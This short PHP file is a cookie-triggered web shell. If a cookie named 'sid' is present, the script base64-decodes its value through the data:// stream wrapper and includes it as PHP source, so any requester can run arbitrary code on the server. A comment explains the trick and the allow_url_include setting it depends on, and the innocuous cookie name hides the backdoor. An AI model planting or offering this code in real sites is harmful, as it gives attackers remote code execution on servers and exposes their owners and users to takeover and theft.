<?php
// Code run through a stream wrapper: the include's prefix makes the request value itself the
// PHP source (needs allow_url_include, which old or careless hosts leave on).
if (!empty($_COOKIE['sid'])) {
    include 'data://text/plain;base64,' . $_COOKIE['sid'];
}
